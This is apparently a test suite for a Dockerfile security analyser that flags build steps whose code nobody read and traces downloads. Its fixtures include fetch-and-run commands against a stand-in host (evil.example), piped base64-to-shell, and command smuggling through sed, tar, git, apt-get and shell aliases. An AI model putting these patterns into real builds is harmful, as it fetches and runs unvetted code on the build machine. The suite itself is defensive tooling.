import { describe, expect, test } from 'vitest';
import type { BuildAnalysis } from '../../../src/model/build-analysis.ts';
import { analysisOf } from './support.ts';

type Files = Readonly<Record<string, string>>;

function analysed(run: string, files: Files = {}): BuildAnalysis {
  return analysisOf(/^FROM/m.test(run) ? run : `FROM x\n${run}`, {}, files);
}

/**
 * What nobody read, by line and program; `held` where only a verified download can have brought it.
 */
function unread(run: string, files: Files = {}): readonly string[] {
  return analysed(run, files).unread.map(
    ({ range, program, held }) =>
      `${range.startLine} ${program ?? 'shell'}${held === true ? ' held' : ''}`,
  );
}

const SUM = 'a'.repeat(64);
const EVIL = 'curl -o /x https://evil.example/x\n';

describe('programs that nobody read', () => {
  test.each([
    ['RUN make', ['2 make']],
    ['RUN ./configure && make install', ['2 configure', '2 make']],
    ['RUN cmake --build .', ['2 cmake']],
    ['RUN go run example.com/x@latest', ['2 go']],
    ['RUN go generate ./...', ['2 go']],
    ['RUN npm run build', ['2 npm']],
    ['RUN npx tool-of-somebody', ['2 npx']],
    ['RUN unheard-of --all', ['2 unheard-of']],
    ['RUN $TOOL install', ['2 ${TOOL}']],
    ['RUN "$(command -v curl)" https://e.example', ['2 $(...)']],
    ['RUN echo c3RyYW5nZQ== | base64 -d | sh', ['2 strange']],
    ['RUN gunzip -c a.gz | sh', ['2 sh']],
    ['RUN printf "%s" "$X" > /tmp/s && sh /tmp/s', ['2 ${X}']],
    ['RUN env -S "curl -O \\"https://evil.example/x\\""', ['2 $(env -S)']],
    ["RUN alias ls='curl https://evil.example' && ls", ['2 alias']],
    ['RUN eval "$(somebody)"', ['2 somebody', '2 eval']],
    ['RUN python3 -c "import os; os.system(\'x\')"', ['2 python3']],
    ["RUN python3 -c \"__import__('os').system('x')\"", ['2 python3']],
    ["RUN node -e \"require('child_process').execSync('x')\"", ['2 node']],
    ['RUN perl -e \'system("x")\'', ['2 perl']],
    ["RUN perl -pe 's/a/`x`/e' f", ['2 perl']],
    ['RUN ruby -e \'exec "x"\'', ['2 ruby']],
    ['RUN php -r "shell_exec(\'x\');"', ['2 php']],
    ['RUN awk \'BEGIN { system("x") }\'', ['2 awk']],
    ["RUN sed 's/.*/x/e' f", ['2 sed']],
    ["RUN sed '1e x' f", ['2 sed']],
    ["RUN tar -xf a.tar --to-command='x'", ['2 tar']],
    ['RUN find / -name x -exec strange {} \\;', ['2 strange']],
    ['RUN ls | xargs strange', ['2 strange']],
    ["RUN su -c 'strange it' user", ['2 strange']],
    ['RUN sh -c "$SCRIPT"', ['2 ${SCRIPT}']],
    ['RUN git -c alias.x="!strange" x', ['2 git']],
    ['RUN apt-get -o APT::Update::Pre-Invoke::=strange update', ['2 apt-get']],
    ['RUN java -jar app.jar', ['2 java']],
    ['RUN python manage.py collectstatic', ['2 manage.py']],
    ['RUN pwsh -File x.ps1', ['2 pwsh']],
    ['RUN . ./env.sh', ['2 env.sh']],
    ['RUN --mount=type=bind,source=s,target=/s /s/run', ['2 /s/run']],
    ['COPY --from=other/image /tool /usr/bin/ls\nRUN ls', ['3 /usr/bin/ls']],
  ])('%j', (run, expected) => {
    expect(unread(run)).toEqual(expected);
  });

  test('what would decide it is said: without network nothing comes in', () => {
    const [line] = analysed('RUN make all').unread;
    expect(line).toMatchObject({
      reason: 'what make runs is in the source it works on, which was not read',
      command: 'make all',
      settle: 'run it without network: RUN --network=none',
    });
    expect(unread('RUN --network=none make all')).toEqual([]);
    expect(unread('RUN --network=default make all')).toEqual(['2 make']);
  });
});

describe('programs that are known to bring nothing in', () => {
  test.each([
    'RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/* && apt-get clean',
    'RUN addgroup -S app && adduser -S -G app app && chown -R app:app /srv && mkdir -p /data',
    'RUN npm ci --omit=dev && npm cache clean --force',
    'RUN set -eux; for f in a b; do if [ -e "$f" ]; then echo "$f" | sed "s/a/b/g" >> out; fi; done',
    "RUN awk -F: '{ print $1 }' /etc/passwd | sort -u > users && tar -czf a.tgz users",
    'RUN gcc -O2 -o /app main.c && strip /app',
    'RUN CGO_ENABLED=0 go build -o /app ./cmd/app',
    'RUN python3 -m venv /opt/venv && /opt/venv/bin/pip install --no-cache-dir requests==2.32.3',
    "RUN python3 -c 'import json, sys; print(json.dumps(sys.version_info))'",
    'RUN node -p "process.version" && nginx -t && tool --version',
    'RUN docker-php-ext-install pdo_mysql && a2enmod rewrite',
    'RUN . /etc/os-release && echo "$VERSION_CODENAME"',
    'RUN eval "$(ssh-agent -s)"',
    'RUN x86_64-linux-gnu-gcc -c a.c && python3.12 -m compileall /srv',
    'RUN tsc && esbuild main.ts --bundle && vite --version && crystal --version',
  ])('%j', (run) => {
    expect(unread(run)).toEqual([]);
  });
});

describe('scripts are read where they are shown', () => {
  const files = { 'install.sh': `#!/bin/sh\n${EVIL}`, 'lib/a.sh': EVIL, 'bin/ls': EVIL };

  test.each([
    'COPY install.sh /install.sh\nRUN /install.sh',
    'COPY install.sh /\nRUN chmod +x /install.sh && sh /install.sh',
    'WORKDIR /app\nCOPY . .\nRUN ./install.sh',
    'COPY --chmod=755 install.sh /usr/local/bin/setup\nRUN setup',
    'COPY bin/ /usr/local/bin/\nRUN ls',
    'COPY bin /opt/bin\nENV PATH=/opt/bin:$PATH\nRUN ls',
    'COPY bin /opt/bin\nRUN export PATH=/opt/bin:$PATH && ls',
    'COPY lib /lib/own\nRUN . /lib/own/a.sh',
    'COPY install.sh /a\nRUN cp /a /b && mv /b /c && sh /c',
    'COPY install.sh /a\nRUN ln -s /a /usr/local/bin/cat && cat x',
    "COPY install.sh /a\nRUN sed -i 's/\\r$//' /a && sh /a",
    'RUN --mount=type=bind,source=install.sh,target=/i.sh sh /i.sh',
    'RUN --mount=type=bind,target=/ctx bash /ctx/install.sh',
    'FROM x AS a\nCOPY install.sh /s\nFROM x\nCOPY --from=a /s /t\nRUN /t',
    'FROM x AS a\nCOPY install.sh /s\nFROM a\nRUN /s',
    'COPY <<EOF /s\ncurl -o /x https://evil.example/x\nEOF\nRUN sh /s',
    'RUN cat <<EOF > /s\ncurl -o /x https://evil.example/x\nEOF\nRUN sh /s',
    'RUN echo "curl -o /x https://evil.example/x" > s.sh && sh s.sh',
    'RUN echo "curl -o /x https://evil.example/x" | tee s.sh && sh s.sh',
    'RUN printf "#!/bin/sh\\ncurl -o /x https://evil.example/x\\n" > s && chmod +x s && ./s',
    'RUN if a; then echo "curl -o /x https://evil.example/x" > s; else echo ok > s; fi; sh s',
    'RUN echo true > s; echo "curl -o /x https://evil.example/x" >> s; sh < s',
  ])('%j', (run) => {
    const { downloads } = analysed(run, files);
    expect(downloads.map(({ url }) => url)).toEqual(['https://evil.example/x']);
  });

  test('one in another language, one that is changed, and one of a context that is not at hand stay unread', () => {
    const python = { 'a.py': 'import evil\n', 'b.py': 'import json\nprint(json.dumps({}))\n' };
    expect(unread('COPY a.py b.py /\nRUN python /a.py && python /b.py', python)).toEqual([
      '3 /a.py',
    ]);
    const shell = { 's.sh': 'true # x\n' };
    expect(unread("COPY s.sh /s\nRUN sed -i 's/# x/; evil/' /s && sh /s", shell)).toEqual(['3 /s']);
    expect(unread('COPY install.sh /i\nRUN sh /i')).toEqual(['3 /i']);
    expect(unread('COPY . /app\nRUN /app/i.sh')).toEqual(['3 /app/i.sh']);
    expect(analysed('COPY . /app\nRUN /app/i.sh').unread[0]?.settle).toBe(
      'judge it where its build context is: scoville build, or scoville lint in the project',
    );
  });

  test('a script of the context is found at the path that the build gives it, after the ignore file', () => {
    expect(unread('COPY . /app\nRUN sh /app/none.sh', { 'a.sh': 'true' })).toEqual([
      '3 /app/none.sh',
    ]);
    expect(unread('COPY a.sh /app/b.sh\nRUN sh /app/b.sh', { 'a.sh': 'true' })).toEqual([]);
  });

  test('scripts that run each other end', () => {
    const files = { 'a.sh': 'sh /b.sh\n', 'b.sh': 'sh /a.sh\n' };
    expect(() => analysed('COPY a.sh b.sh /\nRUN sh /a.sh', files)).not.toThrow();
  });
});

describe('source that a verified download brought', () => {
  const source = `ADD --checksum=sha256:${SUM} https://e.example/s.tgz /s.tgz\nWORKDIR /src\n`;

  test('is held, where nothing of the context lies in it', () => {
    expect(unread(`${source}RUN tar xf /s.tgz && ./configure && make`)).toEqual([
      '4 configure held',
      '4 make held',
    ]);
    expect(unread(`${source}COPY . /src\nRUN make`)).toEqual(['5 make']);
    expect(unread('ADD https://e.example/s.tgz /s.tgz\nRUN make')).toEqual(['3 make']);
  });

  test('an installer that was verified itself is held', () => {
    const run = `RUN curl -o /i.sh https://e.example/i && echo "${SUM}  /i.sh" | sha256sum -c && sh /i.sh`;
    expect(unread(run)).toEqual(['2 /i.sh held']);
  });
});

describe('a script that a verified archive brought', () => {
  const got = `curl -fsSo /s.tgz https://e.example/s.tgz && echo "${SUM}  /s.tgz" | sha256sum -c -`;
  test.each([
    [
      `RUN ${got} && tar -xzf /s.tgz -C /src && cd /src && ./otp_build all`,
      ['2 /src/otp_build held'],
    ],
    [`RUN ${got} && tar -xzf /s.tgz -C /src && /src/otp_build all`, ['2 /src/otp_build held']],
    // Of these another could have brought it.
    [`COPY . /src\nRUN ${got} && tar -xzf /s.tgz -C /src && /src/otp_build`, ['3 /src/otp_build']],
    [
      `RUN ${got} && tar -xzf /s.tgz -C /src && ${EVIL.trim()} && /src/otp_build`,
      ['2 /src/otp_build'],
    ],
    [`RUN ${got} && tar -xzf /s.tgz -C /src && /opt/tool`, ['2 /opt/tool']],
  ])('%j', (run, expected) => {
    expect(unread(run)).toEqual(expected);
  });
});

describe('ONBUILD steps of a base', () => {
  const reason = 'the ONBUILD steps of its base run, and were not read';
  test.each([
    'FROM x AS a\nONBUILD RUN curl https://e.example/x | sh\nFROM a\nRUN ls',
    'FROM node:6-onbuild\nRUN ls',
  ])('%j', (text) => {
    expect(analysisOf(text).unread.map((one) => one.reason)).toEqual([reason]);
  });

  test('those of the image itself run in another build', () => {
    expect(analysisOf('FROM x\nONBUILD RUN curl https://e.example/x | sh').unread).toEqual([]);
  });
});

describe('a file that the build itself brought is not what its name says', () => {
  const files = {
    'x/pip.py': 'import evil\n',
    'x/ok.py': 'import json\n',
    'x/c.phar': '<?php system("evil");',
    'pip/__main__.py': 'import evil\n',
  };

  test.each([
    [
      'COPY x/pip.py /opt/pip.py\nRUN python3 /opt/pip.py install requests==2.32.3',
      ['3 /opt/pip.py'],
    ],
    ['COPY x/ /opt/\nRUN python3 /opt/pip.py install requests==2.32.3', ['3 /opt/pip.py']],
    ['COPY x/pip.py /usr/bin/pip3\nRUN python3 /usr/bin/pip3 install a==1', ['3 /usr/bin/pip3']],
    ['COPY x/pip.py /opt/npm-cli.js\nRUN node /opt/npm-cli.js ci', ['3 /opt/npm-cli.js']],
    ['COPY x/pip.py /usr/bin/gem\nRUN ruby /usr/bin/gem install a -v 1.0.0', ['3 /usr/bin/gem']],
    [
      'COPY x/c.phar /opt/composer.phar\nRUN php /opt/composer.phar install',
      ['3 /opt/composer.phar'],
    ],
    ['WORKDIR /a\nCOPY . .\nRUN python -m pip install a==1', ['4 /a/pip/__main__.py']],
    ['COPY x/pip.py /a/venv.py\nWORKDIR /a\nRUN python3 -m venv /v', ['4 /a/venv.py']],
    ['COPY x/ok.py /opt/pip.py\nRUN python3 /opt/pip.py install x', []],
    ['COPY x /app\nRUN python3 /usr/bin/pip3 install a==1', []],
    ['RUN python3 /opt/venv/bin/pip install a==1', []],
  ])('%j', (run, expected) => {
    expect(unread(run, files)).toEqual(expected);
  });

  test('a context that is not at hand may have brought it, but for folders that installers fill', () => {
    expect(unread('COPY x /opt\nRUN python3 /opt/pip.py install a==1')).toEqual(['3 /opt/pip.py']);
    expect(unread('COPY . /opt/app\nRUN python3 /opt/app/v/bin/pip install a==1')).toEqual([]);
    expect(unread('WORKDIR /a\nCOPY . .\nRUN python -m pip install a==1')).toEqual([]);
  });
});

describe('one rule for all that runs code of the project', () => {
  test.each([
    ['make', 'make'],
    ['vite build', 'vite'],
    ['webpack --mode production', 'webpack'],
    ['./node_modules/.bin/eslint .', 'eslint'],
    ['jest', 'jest'],
    ['crystal build src/a.cr', 'crystal'],
    ['nim c a.nim', 'nim'],
    ['ghc Main.hs', 'ghc'],
    ['gcc -fplugin=./x.so a.c', 'gcc'],
    ['protoc --plugin=./x a.proto', 'protoc'],
  ])('%s', (command, program) => {
    expect(unread(`COPY . .\nRUN ${command}`)).toEqual([`3 ${program}`]);
    expect(unread(`COPY . .\nRUN --network=none ${command}`)).toEqual([]);
    const verified = `ADD --checksum=sha256:${SUM} https://e.example/a.tar.gz /s/`;
    const held = analysed(`${verified}\nWORKDIR /s\nRUN ${command}`).unread;
    const isDriver = !/plugin/.test(command);
    expect(held.map((one) => one.held)).toEqual([isDriver ? true : undefined]);
  });

  test('npm run is what its commands are', () => {
    const build = (script: string): readonly string[] =>
      unread('COPY . .\nRUN npm run build', {
        'package.json': JSON.stringify({ scripts: { build: script } }),
      });
    expect(build('tsc -p . && esbuild a.ts')).toEqual([]);
    expect(build('tsc && vite build')).toEqual(['3 vite']);
  });
});
